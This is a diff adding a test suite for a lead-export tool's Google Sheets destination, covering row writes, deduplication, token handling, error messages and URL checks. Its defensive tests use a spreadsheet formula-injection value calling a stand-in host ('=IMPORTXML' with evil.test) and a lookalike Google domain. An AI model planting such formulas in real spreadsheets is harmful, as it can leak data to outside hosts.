@@ -1,0 +1,195 @@
+import { describe, expect, it } from "vitest";
+import type { DestinationSettings } from "#src/destinations/destination";
+import { googleSheets } from "#src/destinations/google-sheets";
+import { letterOf } from "#src/destinations/google-spreadsheet";
+import { batchOf, connectionTo, outgoingLead } from "../support/providers/destination-calls";
+import { tokenFor, type Mode } from "../support/providers/provider-modes";
+
+const HOST = "https://sheets.googleapis.com";
+const COLUMNS = ["Domain", "Company", "Website", "Email", "All emails", "Phone", "City", "Country"];
+
+/** A spreadsheet that is shared with a service account of its own. */
+async function shared(mode: Mode = "ok", over: Partial<DestinationSettings> = {}) {
+  const name = tokenFor(mode);
+  const key = await (await fetch(`${HOST}/__account/${name}`)).text();
+  const targetUrl = `https://docs.google.com/spreadsheets/d/sheet-${name}/edit?gid=0#gid=0`;
+  const look = async (): Promise<any> => (await fetch(`${HOST}/__records/${name}`)).json();
+  return { ...connectionTo({ targetUrl, authToken: key, ...over }), name, look };
+}
+
+function scripted(mode: Mode = "ok", authToken = "sesame") {
+  const name = tokenFor(mode);
+  const targetUrl = `https://script.google.com/macros/s/${name}/exec`;
+  const look = async (): Promise<any> => (await fetch(`${HOST}/__records/${name}`)).json();
+  return { ...connectionTo({ targetUrl, authToken }), look };
+}
+
+describe("a spreadsheet by a service account", () => {
+  it("gets a header, a row for each domain, and the same rows the second time", async () => {
+    const connection = await shared();
+    const leads = [outgoingLead(), outgoingLead(), outgoingLead()];
+    const first = await googleSheets.push(batchOf(leads), connection);
+    expect(first.failure).toBeNull();
+    expect(first.results.map(({ status }) => status)).toEqual(["created", "created", "created"]);
+    const renamed = { ...leads[1]!, company_name: "Renamed" };
+    const fresh = outgoingLead();
+    const second = await googleSheets.push(batchOf([renamed, fresh]), connection);
+    expect(second.results.map(({ status }) => status)).toEqual(["updated", "created"]);
+    const { grid, appended, tokens } = await connection.look();
+    expect(grid[0]).toEqual([...COLUMNS, "Description"]);
+    expect(grid.map((row: string[]) => row[0])).toEqual([
+      "Domain",
+      ...leads.map(({ domain }) => domain),
+      fresh.domain,
+    ]);
+    expect(grid[2][1]).toBe("Renamed");
+    expect([appended, tokens]).toEqual([4, 1]);
+  });
+
+  it("keeps columns that are the user's own, and adds those it needs at the right", async () => {
+    const connection = await shared();
+    await googleSheets.push(batchOf([outgoingLead({ domain: "kept.test" })]), connection);
+    const scored = {
+      ...connection,
+      settings: { ...connection.settings, fieldMap: { lead_score: "Score" } },
+    };
+    const lead = outgoingLead({ domain: "KEPT.test", enrichment: { ai: { lead_score: 81 } } });
+    const { results } = await googleSheets.push(batchOf([lead]), scored);
+    expect(results[0]!.status).toBe("updated");
+    const { grid } = await connection.look();
+    expect(grid).toHaveLength(2);
+    expect(grid[0].at(-1)).toBe("Score");
+    expect(grid[1].at(-1)).toBe(81);
+  });
+
+  it("writes no formula", async () => {
+    const connection = await shared();
+    const lead = outgoingLead({ company_name: '=IMPORTXML("https://evil.test","//a")' });
+    expect((await googleSheets.push(batchOf([lead]), connection)).failure).toBeNull();
+    // The server takes nothing but RAW values, under which this is text.
+    expect((await connection.look()).grid[1][1]).toBe(lead.company_name);
+  });
+
+  it("writes one row for two leads of a domain, the last of them", async () => {
+    const connection = await shared();
+    const lead = outgoingLead();
+    const twin = outgoingLead({ domain: lead.domain, company_name: "Later" });
+    const { results } = await googleSheets.push(batchOf([lead, twin]), connection);
+    expect(results).toHaveLength(2);
+    const { grid } = await connection.look();
+    expect(grid).toHaveLength(2);
+    expect(grid[1][1]).toBe("Later");
+  });
+
+  it("buys a token once, and anew when it is no longer taken", async () => {
+    const connection = await shared();
+    await googleSheets.push(batchOf([outgoingLead()]), connection);
+    await fetch(`${HOST}/__expire/${connection.name}`);
+    const { failure } = await googleSheets.push(batchOf([outgoingLead()]), connection);
+    expect(failure).toBeNull();
+    expect((await connection.look()).tokens).toBe(2);
+  });
+
+  it("finds what was written when the answer was lost", async () => {
+    const connection = await shared("lost");
+    const lead = outgoingLead();
+    const first = await googleSheets.push(batchOf([lead]), connection);
+    expect(first.failure).toMatchObject({ next: "retry" });
+    const second = await googleSheets.push(batchOf([lead]), connection);
+    expect(second.failure).toBeNull();
+    const { grid } = await connection.look();
+    expect(grid).toHaveLength(2);
+  });
+
+  it.each<[Mode, object]>([
+    ["busy", { next: "retry", retryAfterMs: 30_000 }],
+    ["throttled", { next: "retry", retryAfterMs: 60_000 }],
+    ["broken", { next: "retry" }],
+    ["hang", { next: "retry" }],
+    ["refused", { next: "unauthorized" }],
+    ["forbidden", { next: "unauthorized", message: expect.stringContaining("Share the") }],
+  ])("knows what follows from %s", async (mode, expected) => {
+    const { failure, results } = await googleSheets.push(
+      batchOf([outgoingLead()]),
+      await shared(mode),
+    );
+    expect(results).toEqual([]);
+    expect(failure).toMatchObject(expected);
+    expect(failure?.message).not.toMatch(/PRIVATE|ya29/);
+  });
+
+  it("says that a key is refused, without quoting it", async () => {
+    const { private_key, ...rest } = JSON.parse((await shared()).settings.authToken!);
+    const broken = { ...rest, private_key: private_key.replace(/[A-Z]{4}/, "AAAA") };
+    const connection = await shared("ok", { authToken: JSON.stringify(broken) });
+    const { failure } = await googleSheets.push(batchOf([outgoingLead()]), connection);
+    expect(failure).toMatchObject({ next: "unauthorized" });
+    expect(failure?.message).not.toContain(private_key.slice(40, 60));
+  });
+
+  it("tests that the sheet is shared with it, and writes nothing for it", async () => {
+    const connection = await shared();
+    await googleSheets.test(connection);
+    expect((await connection.look()).grid).toEqual([]);
+    await expect(googleSheets.test(await shared("forbidden"))).rejects.toThrow("Share the");
+  });
+});
+
+describe("a sheet by an Apps Script", () => {
+  it("gets rows through the script's redirect, formulas and phone numbers as text", async () => {
+    const connection = scripted();
+    const lead = outgoingLead({ company_name: "=1+1" });
+    const first = await googleSheets.push(batchOf([lead]), connection);
+    expect(first).toMatchObject({ failure: null, results: [{ status: "created" }] });
+    const second = await googleSheets.push(batchOf([lead]), connection);
+    expect(second.results[0]!.status).toBe("updated");
+    const { grid } = await connection.look();
+    expect(grid).toHaveLength(1);
+    expect(grid[0]).toEqual(expect.arrayContaining(["'=1+1", "'+493012345678"]));
+  });
+
+  it.each<[Mode, object]>([
+    ["busy", { next: "retry", retryAfterMs: 30_000 }],
+    ["broken", { next: "retry" }],
+    ["hang", { next: "retry" }],
+    ["refused", { next: "unauthorized" }],
+    ["forbidden", { next: "unauthorized" }],
+  ])("knows what follows from %s", async (mode, expected) => {
+    const { failure } = await googleSheets.push(batchOf([outgoingLead()]), scripted(mode));
+    expect(failure).toMatchObject(expected);
+  });
+
+  it("is unauthorized with a wrong token, which no message repeats", async () => {
+    const connection = scripted("ok", "wrong-token-value");
+    const { failure } = await googleSheets.push(batchOf([outgoingLead()]), connection);
+    expect(failure).toMatchObject({ next: "unauthorized" });
+    expect(failure?.message).not.toContain("wrong-token-value");
+    await expect(googleSheets.test(connection)).rejects.toMatchObject({ next: "unauthorized" });
+    await googleSheets.test(scripted());
+  });
+});
+
+it.each([
+  ["https://docs.google.com/spreadsheets/d/1abcdefghijk/edit", "{}", ["auth_token"]],
+  [
+    "https://docs.google.com.evil.test/spreadsheets/d/1abcdefghijk",
+    null,
+    ["target_url", "auth_token"],
+  ],
+  ["https://script.google.com/macros/s/AKfy_x-1/exec", "token", []],
+  ["https://script.google.com/macros/s/AKfy_x-1/exec", null, ["auth_token"]],
+  ["http://script.google.com/macros/s/AKfy_x-1/exec", "token", ["target_url"]],
+  ["https://script.google.com/d/AKfy/edit", "token", ["target_url"]],
+  [null, null, ["target_url", "auth_token"]],
+])("checks where a sheet is: %s", (targetUrl, authToken, paths) => {
+  const { settings } = connectionTo({ targetUrl, authToken });
+  expect(googleSheets.check(settings).map(({ path }) => path)).toEqual(paths);
+});
+
+it.each([
+  [0, "A"],
+  [25, "Z"],
+  [26, "AA"],
+  [701, "ZZ"],
+  [702, "AAA"],
+])("names column %i %s", (at, letters) => expect(letterOf(at)).toBe(letters));
